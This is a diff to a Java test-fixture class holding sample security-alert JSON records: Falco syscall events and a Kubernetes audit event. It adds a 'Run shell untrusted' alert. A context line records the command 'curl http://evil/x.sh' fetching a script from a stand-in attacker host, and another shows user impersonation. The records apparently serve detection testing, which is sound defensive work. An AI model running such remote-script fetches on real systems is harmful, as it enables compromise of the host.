@@ -42,6 +42,11 @@ final class Records {
             "time":"2026-11-24T10:00:00.123456789Z","output":"curl","output_fields":{"proc.name":"curl",\
             "proc.cmdline":"curl http://evil/x.sh","proc.exepath":"/usr/bin/curl","proc.pname":"java","proc.pid":4711,\
             "user.name":"tomcat","user.uid":1000,"container.id":"0123456789ab","fd.sip":"203.0.113.7"}}""";
+    /** With what only some of Falco's rules tell. */
+    static final String SHELL = """
+            {"hostname":"worker-1","rule":"Run shell untrusted","source":"syscall","output_fields":{"proc.name":"sh",\
+            "proc.pcmdline":"java -jar app.jar","proc.ppid":1,"proc.cwd":"/tmp/"}}""";
+
     static final String EXEC = """
             {"kind":"Event","verb":"create","user":{"username":"mallory","uid":"u-1"},"impersonatedUser":{"username":"admin"},\
             "sourceIPs":["198.51.100.4","10.0.0.1"],"userAgent":"kubectl/v1.31","responseStatus":{"code":101}}""";
